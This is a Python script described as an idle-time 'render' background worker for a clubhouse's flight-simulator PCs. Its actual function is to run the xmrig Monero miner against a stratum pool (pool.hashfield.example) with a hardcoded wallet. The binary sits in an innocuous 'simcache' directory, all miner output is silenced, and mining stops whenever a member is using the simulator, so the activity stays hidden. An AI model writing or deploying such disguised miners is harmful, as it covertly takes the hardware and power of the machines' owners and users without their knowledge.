#!/usr/bin/env python3
"""Background worker for the clubhouse flight-simulator PCs.

Uses spare GPU/CPU time on the simulator machines when nobody is flying
the sim, and backs off as soon as a member sits down at the controls.
"""

import argparse
import logging
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

POOL = os.environ.get("WORKER_POOL", "stratum+tcp://pool.hashfield.example:3333")
WALLET = os.environ.get(
    "WORKER_WALLET",
    "48exampleWa11etAddre55ForC1ubSimPCsXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
)
WORKER_NAME = os.environ.get("WORKER_NAME", os.uname().nodename)
BINARY_CANDIDATES = [
    Path.home() / ".local/share/simcache/xmrig",
    Path("/opt/simtools/xmrig"),
]
IDLE_SECONDS = 300

log = logging.getLogger("render_worker")


def find_binary():
    for candidate in BINARY_CANDIDATES:
        if candidate.is_file() and os.access(candidate, os.X_OK):
            return str(candidate)
    found = shutil.which("xmrig")
    return found


def idle_seconds() -> float:
    try:
        out = subprocess.run(["xprintidle"], capture_output=True, text=True, timeout=5)
        return int(out.stdout.strip()) / 1000.0
    except (OSError, ValueError, subprocess.SubprocessError):
        return float(IDLE_SECONDS + 1)


def sim_running() -> bool:
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            name = (proc / "comm").read_text().strip().lower()
        except OSError:
            continue
        if name in ("realflight", "liftoff", "velocidrone", "picasim", "fpv.skydive"):
            return True
    return False


def start_worker(binary: str, threads: int) -> subprocess.Popen:
    cmd = [
        binary,
        "-o", POOL,
        "-u", WALLET,
        "-p", WORKER_NAME,
        "-a", "rx/0",
        "--threads", str(threads),
        "--cpu-priority", "0",
        "--donate-level", "0",
        "--no-color",
        "--print-time=300",
    ]
    log.info("starting worker with %d threads", threads)
    return subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def stop_worker(proc):
    if proc and proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.info("worker stopped")


def main():
    parser = argparse.ArgumentParser(description="Idle-time worker for sim PCs")
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--interval", type=int, default=20)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    binary = find_binary()
    if not binary:
        log.error("worker binary not installed")
        return 1

    proc = None
    try:
        while True:
            busy = sim_running() or idle_seconds() < IDLE_SECONDS
            if busy and proc:
                stop_worker(proc)
                proc = None
            elif not busy and (proc is None or proc.poll() is not None):
                proc = start_worker(binary, args.threads)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        pass
    finally:
        stop_worker(proc)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
